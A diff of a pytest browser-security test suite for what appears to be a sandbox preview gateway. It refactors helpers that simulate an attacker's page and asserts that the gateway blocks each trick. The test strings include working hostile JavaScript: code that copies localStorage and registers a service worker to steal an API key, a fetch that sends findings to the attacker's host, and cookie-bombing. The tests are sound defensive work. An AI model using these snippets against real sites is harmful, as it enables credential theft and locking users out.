@@ -14,13 +14,13 @@ from base64 import b64encode
 from collections.abc import AsyncIterator, Iterator
 from hashlib import sha256
 from pathlib import Path
-from typing import Any
-from urllib.parse import quote, urlencode
+from urllib.parse import urlencode
 
 import pytest
 
 from tests.gateway.bed import PORT, Bed, Box
-from tests.gateway.browser import CHROMIUM, Browser, Page, chromium_browser
+from tests.gateway.browser import CHROMIUM, Browser, chromium_browser
+from tests.gateway.hostile import Attacker, box_of_attacker, caught, click, give_swagger_the_key, opened
 from tests.gateway.old_proxy import OldProxy, old_proxy
 
 pytestmark = [
@@ -29,7 +29,6 @@ pytestmark = [
     pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (Debian: apt-get install chromium)"),
 ]
 
-ATTACKER = Path(__file__).with_name("attacker.py").read_text()
 SCRIPT = ("Content-Type", "text/javascript")
 EXPOSE = f"""python3 - <<'END'
 import json, os, urllib.request
@@ -45,54 +44,10 @@ print(urllib.request.urlopen(request).read().decode())
 END"""
 
 
-class Attacker:
-    """Somebody who has a sandbox, and code in it."""
-
-    def __init__(self, box: Box, server_port: int) -> None:
-        self.box = box
-        self.host = f"http://{PORT}-{box.key}.localhost:{server_port}"
-        self.api = f"http://localhost:{server_port}"
-        self.prefix = f"{self.api}/p/{box.key}/{PORT}"
-
-    def answer(self, body: str, *headers: tuple[str, str], path: str = "/page", status: int = 200) -> str:
-        """The target of a request that is answered so."""
-        answer = {"status": status, "headers": headers, "body": body}
-        return f"{path}?answer={quote(json.dumps(answer), safe='')}"
-
-    def code(self, code: str) -> str:
-        """With ``caught``, by which it tells of what it finds."""
-        catch = f"(what) => fetch('{self.host}/catch?what=' + encodeURIComponent(what), {{mode: 'no-cors'}})"
-        return f"{{ const caught = {catch}; {code} }}"
-
-    def page(self, code: str, *headers: tuple[str, str], path: str = "/page", body: str = "") -> str:
-        """The target of a page that runs this."""
-        return self.answer(
-            f"<!doctype html><title>page</title>{body}<script>{self.code(code)}</script>", *headers, path=path
-        )
-
-    def caught(self) -> list[str]:
-        with self.box.visitor() as visitor:
-            return list(visitor.get("/caught").raise_for_status().json())
-
-    def requests(self, path: str) -> list[dict[str, Any]]:
-        with self.box.visitor() as visitor:
-            return [one for one in visitor.get("/requests").json() if one["path"] == path]
-
-
-def _box_of_attacker(bed: Bed, **fields: Any) -> Box:
-    box = bed.create(**fields)
-    with bed.api() as api:
-        body = {"sandbox_id": box.sandbox_id, "path": "/workspace/attacker.py", "content": ATTACKER}
-        api.post("/sandboxes/write-file", json=body).raise_for_status()
-    box.run(f"python3 /workspace/attacker.py {PORT}", background=True)
-    box.run(f"until (: < /dev/tcp/127.0.0.1/{PORT}) 2>/dev/null; do sleep 0.05; done", timeout=60)
-    return box
-
-
 @pytest.fixture
 def attackers_box(local_bed: Bed) -> Iterator[Box]:
     """Open to everybody, so that no link is in the way of a trick."""
-    box = _box_of_attacker(local_bed, public_ports=True)
+    box = box_of_attacker(local_bed, public_ports=True)
     yield box
     box.delete()
 
@@ -114,37 +69,12 @@ async def browser(tmp_path: Path) -> AsyncIterator[Browser]:
         yield browser
 
 
-async def _opened(browser: Browser, url: str) -> Page:
-    page = await browser.tab()
-    await page.open(url)
-    await page.until("document.readyState === 'complete' && location.href !== 'about:blank'")
-    return page
-
-
-async def _caught(browser: Browser, attacker: Attacker) -> list[str]:
-    """What pages told the attacker, once a later page's word has come."""
-    await _opened(browser, attacker.host + attacker.page("caught('the end')"))
-    async with asyncio.timeout(60):
-        while "the end" not in (caught := await asyncio.to_thread(attacker.caught)):
-            await asyncio.sleep(0.05)
-    return [what for what in caught if what != "the end"]
-
-
-async def _click(page: Page, expression: str) -> Any:
-    """As if a person had clicked, so that windows may be opened."""
-    answer = await page.call(
-        "Runtime.evaluate", expression=expression, userGesture=True, awaitPromise=True, returnByValue=True
-    )
-    assert "exceptionDetails" not in answer, answer
-    return answer["result"].get("value")
-
-
 async def test_a_preview_page_cannot_steal_the_key_of_who_uses_the_docs(local_bed: Bed, browser: Browser) -> None:
     """As it was reported: a link made from inside, a redirect to the path form, the stored key, a service worker."""
-    box = _box_of_attacker(local_bed)
+    box = box_of_attacker(local_bed)
     attacker = Attacker(box, local_bed.port)
-    victim = await _opened(browser, f"{attacker.api}/docs")
-    await _give_swagger_the_key(victim, local_bed.key)
+    victim = await opened(browser, f"{attacker.api}/docs")
+    await give_swagger_the_key(victim, local_bed.key)
 
     said = box.run(EXPOSE)
     link = next(word for word in said.replace('"', " ").replace("\\", " ").split() if "paddock_link=" in word)
@@ -153,24 +83,14 @@ async def test_a_preview_page_cannot_steal_the_key_of_who_uses_the_docs(local_be
     steal = f"""document.title = 'stolen ' + JSON.stringify(localStorage);
         navigator.serviceWorker.register('/p/{box.key}/{PORT}{worker}', {{scope: '/'}})"""
     there = f"{attacker.prefix}{attacker.page(steal)}&paddock_link={token}"
-    opened = await browser.tab()
-    await opened.open(f"{attacker.host}{attacker.page(f'location = {json.dumps(there)}')}&paddock_link={token}")
-    await opened.until(f"location.href.startsWith('{attacker.api}/') && document.readyState === 'complete'")
-    assert "stolen" not in await opened.evaluate("document.title")
-    assert "for programs" in await opened.evaluate("document.title")
-    assert await opened.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0
+    preview = await browser.tab()
+    await preview.open(f"{attacker.host}{attacker.page(f'location = {json.dumps(there)}')}&paddock_link={token}")
+    await preview.until(f"location.href.startsWith('{attacker.api}/') && document.readyState === 'complete'")
+    assert "stolen" not in await preview.evaluate("document.title")
+    assert "for programs" in await preview.evaluate("document.title")
+    assert await preview.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0
     assert local_bed.key not in await victim.evaluate("JSON.stringify({...localStorage, ...sessionStorage})")
     box.delete()
-
-
-async def _give_swagger_the_key(page: Page, key: str) -> None:
-    await page.until("document.querySelector('.btn.authorize') !== null")
-    await page.click("document.querySelector('.btn.authorize')")
-    await page.until("document.querySelector('.auth-container input') !== null")
-    await page.click("document.querySelector('.auth-container input')")
-    await page.write(key)
-    await page.click("document.querySelector('.auth-btn-wrapper .authorize')")
-    await page.until("document.querySelector('.auth-btn-wrapper')?.innerText.includes('Logout')")
 
 
 async def test_the_docs_work_and_violate_no_policy_of_their_own(attackers_box: Box, browser: Browser) -> None:
@@ -182,7 +102,7 @@ async def test_the_docs_work_and_violate_no_policy_of_their_own(attackers_box: B
     )
     await page.call("Page.addScriptToEvaluateOnNewDocument", source=watch)
     await page.open(f"{attacker.api}/docs")
-    await _give_swagger_the_key(page, attackers_box.bed.key)
+    await give_swagger_the_key(page, attackers_box.bed.key)
     await page.click("document.querySelector('.btn-done')")
     listed = "#operations-sandboxes-list_sandboxes"
     for button in (".opblock-summary-control", ".try-out__btn", ".execute"):
@@ -194,7 +114,7 @@ async def test_the_docs_work_and_violate_no_policy_of_their_own(attackers_box: B
     assert await page.evaluate("violations") == []
     assert await page.evaluate("localStorage.length + sessionStorage.length") == 0
     await page.evaluate("localStorage.setItem('authorized', 'a key that an earlier version has kept')")
-    again = await _opened(browser, f"{attacker.api}/docs")
+    again = await opened(browser, f"{attacker.api}/docs")
     await again.until("document.querySelector('.btn.authorize') !== null")
     assert await again.evaluate("localStorage.length") == 0
 
@@ -224,7 +144,7 @@ async def test_however_a_page_goes_to_the_path_form_it_runs_nothing_there(
     page = await browser.tab()
     await page.open(attacker.host + attacker.page(code))
     await page.until(f"location.href.startsWith('{attacker.api}/') && document.readyState === 'complete'")
-    assert await _caught(browser, attacker) == []
+    assert await caught(browser, attacker) == []
 
 
 async def test_no_element_loads_the_path_form_as_a_document_of_the_apis_origin(
@@ -273,9 +193,9 @@ async def test_no_element_loads_the_path_form_as_a_document_of_the_apis_origin(
             ]);
             return 'all';
         }})()"""
-    opened = await _opened(browser, attacker.host + attacker.page(code, body="<body></body>"))
-    assert await opened.until("window.tried", seconds=120) == "all"
-    assert await _caught(browser, attacker) == []
+    preview = await opened(browser, attacker.host + attacker.page(code, body="<body></body>"))
+    assert await preview.until("window.tried", seconds=120) == "all"
+    assert await caught(browser, attacker) == []
 
 
 async def test_a_page_cannot_make_a_worker_of_the_api_from_its_own_scripts(
@@ -285,9 +205,9 @@ async def test_a_page_cannot_make_a_worker_of_the_api_from_its_own_scripts(
     attacker = Attacker(attackers_box, attackers_box.bed.port)
     worker = attacker.answer("onfetch = () => {}", SCRIPT, ("Service-Worker-Allowed", "/"), path="/sw.js")
     register = "navigator.serviceWorker.register(%s, {scope: '/'}).then(() => 'registered', e => e.name)"
-    here = await _opened(browser, f"{attacker.api}/openapi.json")
+    here = await opened(browser, f"{attacker.api}/openapi.json")
     there = attacker.prefix + worker
-    docs = await _opened(browser, f"{attacker.api}/docs")
+    docs = await opened(browser, f"{attacker.api}/docs")
     assert await docs.evaluate(register % json.dumps(there)) in ("TypeError", "SecurityError")
     run = f"new Promise(done => {{ const w = new Worker({json.dumps(there)}); w.onerror = () => done('refused') }})"
     assert (
@@ -295,7 +215,7 @@ async def test_a_page_cannot_make_a_worker_of_the_api_from_its_own_scripts(
         == "refused"
     )
     assert await here.evaluate("self.origin") == "null"
-    own = await _opened(browser, attacker.host + attacker.page(""))
+    own = await opened(browser, attacker.host + attacker.page(""))
     assert await own.evaluate(register % json.dumps(worker)) == "registered"
 
 
@@ -309,7 +229,7 @@ async def test_a_worker_from_before_is_ended(attackers_box: Box, proxy: OldProxy
     head = "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nService-Worker-Allowed: /\r\nConnection: close\r\n\r\n%s"
     proxy.earlier[script.encode()] = (head % ("text/javascript", said)).encode()
     proxy.earlier[b"/docs"] = (head % ("text/html", "<title>earlier</title>")).encode()
-    page = await _opened(browser, f"{attacker.api}/docs")
+    page = await opened(browser, f"{attacker.api}/docs")
     await page.evaluate(f"navigator.serviceWorker.register('{script}', {{scope: '/'}}).then(() => true)")
     await page.until("navigator.serviceWorker.controller !== null")
     await page.open(f"{attacker.api}/docs")
@@ -331,13 +251,13 @@ async def test_whoever_opens_a_window_of_ours_has_no_hold_on_it(
     with attackers_box.bed.api() as api:
         port = api.post(f"/sandboxes/{attackers_box.sandbox_id}/links", json={"port": 9000}).json()["url"]
     url = port if target == "own" else attacker.api + target
-    page = await _opened(browser, attacker.host + attacker.page(""))
-    await _click(page, f"window.held = window.open({json.dumps(url)}, 'named'); 0")
+    page = await opened(browser, attacker.host + attacker.page(""))
+    await click(page, f"window.held = window.open({json.dumps(url)}, 'named'); 0")
     ours = await browser.opened(url.partition("?")[0])
     await ours.until("document.readyState === 'complete' && location.href !== 'about:blank'")
     assert await ours.evaluate("window.opener === null && window.name === ''")
     await page.until("window.held.closed")
-    await _click(page, "window.held.location = 'about:blank'; window.held.postMessage('hello', '*'); 0")
+    await click(page, "window.held.location = 'about:blank'; window.held.postMessage('hello', '*'); 0")
     await page.evaluate("new Promise(done => setTimeout(done, 200))")
     assert await ours.evaluate("location.href") != "about:blank"
 
@@ -348,7 +268,7 @@ async def test_no_page_of_ours_is_shown_in_a_frame(attackers_box: Box, browser: 
     shown = f"http://{attackers_box.host(3999)}/"  # of the gateway's own: a preview in somebody's frame may be starting
     addresses = [*(attacker.api + target for target in refused), shown]
     frames = "".join(f"<iframe src='{address}'></iframe>" for address in addresses)
-    page = await _opened(browser, attacker.host + attacker.page("", body=frames))
+    page = await opened(browser, attacker.host + attacker.page("", body=frames))
     assert await page.evaluate("frames.length") == len(addresses)
     seen = {await frame.evaluate("location.href") for frame in await browser.frames()}
     assert seen == {shown, "chrome-error://chromewebdata/"}
@@ -357,18 +277,18 @@ async def test_no_page_of_ours_is_shown_in_a_frame(attackers_box: Box, browser: 
 async def test_neighbours_cannot_agree_to_be_one_origin(attackers_box: Box, browser: Browser) -> None:
     attacker = Attacker(attackers_box, attackers_box.bed.port)
     agreed = ("Origin-Agent-Cluster", "?0")
-    page = await _opened(browser, attacker.host + attacker.page("document.domain = 'localhost'", agreed))
+    page = await opened(browser, attacker.host + attacker.page("document.domain = 'localhost'", agreed))
     assert await page.evaluate("originAgentCluster") is True
-    docs = await _opened(browser, f"{attacker.api}/docs")
+    docs = await opened(browser, f"{attacker.api}/docs")
     assert await docs.evaluate("originAgentCluster") is True
 
 
 async def test_a_page_cannot_clear_what_its_neighbours_keep(attackers_box: Box, browser: Browser) -> None:
     attacker = Attacker(attackers_box, attackers_box.bed.port)
-    docs = await _opened(browser, f"{attacker.api}/docs")
+    docs = await opened(browser, f"{attacker.api}/docs")
     await docs.evaluate("document.cookie = 'session=1; path=/'; localStorage.setItem('kept', '1')")
     clear = ("Clear-Site-Data", '"*", "cookies", "storage", "cache"')
-    page = await _opened(browser, attacker.host + attacker.page("", clear))
+    page = await opened(browser, attacker.host + attacker.page("", clear))
     asked = attacker.prefix + attacker.answer("", clear, ("Access-Control-Allow-Origin", "*"))
     assert await page.evaluate(f"fetch({json.dumps(asked)}).then(answer => answer.status)") == 200
     assert "session" in {cookie["name"] for cookie in await browser.cookies()}
@@ -379,7 +299,7 @@ async def test_cookies_of_the_apis_host_do_not_reach_a_sandbox_nor_come_from_one
     attackers_box: Box, browser: Browser
 ) -> None:
     attacker = Attacker(attackers_box, attackers_box.bed.port)
-    docs = await _opened(browser, f"{attacker.api}/docs")
+    docs = await opened(browser, f"{attacker.api}/docs")
     await docs.evaluate("document.cookie = 'dashboard=secret; path=/'")
     headers = (
         ("Access-Control-Allow-Origin", attacker.host),
@@ -388,7 +308,7 @@ async def test_cookies_of_the_apis_host_do_not_reach_a_sandbox_nor_come_from_one
         ("Set-Cookie", "paddock_port=tossed; Path=/"),
         ("Set-Cookie", "own=1; Path=/"),
     )
-    page = await _opened(browser, attacker.host + attacker.page("", *headers))
+    page = await opened(browser, attacker.host + attacker.page("", *headers))
     asked = attacker.prefix + attacker.answer("", *headers, path="/asked")
     assert await page.evaluate(f"fetch({json.dumps(asked)}, {{credentials: 'include'}}).then(a => a.status)") == 200
     seen = await asyncio.to_thread(attacker.requests, "/asked")
@@ -410,7 +330,7 @@ async def test_cookies_for_the_whole_domain_lock_nobody_out(attackers_box: Box, 
         document.cookie = `bomb${n}=${'x'.repeat(4000)}; domain=sandboxes.example; path=/; max-age=99999`"""
     async with chromium_browser(tmp_path / "bombed", CHROMIUM, *options) as browser:
         attacker = Attacker(attackers_box, port)
-        page = await _opened(browser, f"http://{PORT}-{attackers_box.key}.{domain}{attacker.page(bomb)}")
+        page = await opened(browser, f"http://{PORT}-{attackers_box.key}.{domain}{attacker.page(bomb)}")
         async with asyncio.timeout(60):
             while len(await browser.cookies()) < 100:  # they are stored a little later than they are set
                 await asyncio.sleep(0.05)
@@ -453,16 +373,16 @@ async def test_a_file_that_is_a_page_runs_nothing_where_it_is_shown(
         if name != "nothing":  # which is downloaded
             await page.until(f"location.href.startsWith('{attacker.api}/') && document.readyState === 'complete'")
             assert await page.evaluate("self.origin") == "null"
-    assert await _caught(browser, attacker) == []
+    assert await caught(browser, attacker) == []
 
 
 async def test_on_its_own_host_a_page_may_do_what_pages_do(attackers_box: Box, browser: Browser) -> None:
     """Storage, cookies, workers, frames of its own, and windows that it opens and speaks to."""
     attacker = Attacker(attackers_box, attackers_box.bed.port)
-    page = await _opened(browser, attacker.host + attacker.page("", ("Set-Cookie", "a=1; Path=/")))
+    page = await opened(browser, attacker.host + attacker.page("", ("Set-Cookie", "a=1; Path=/")))
     await page.evaluate("localStorage.setItem('b', '2')")
     other = attacker.page("onload = () => opener && opener.postMessage('from the window', '*')", path="/other")
-    heard = await _click(
+    heard = await click(
         page,
         f"""new Promise(done => {{
             onmessage = (said) => done(said.data + document.cookie + localStorage.getItem('b'));
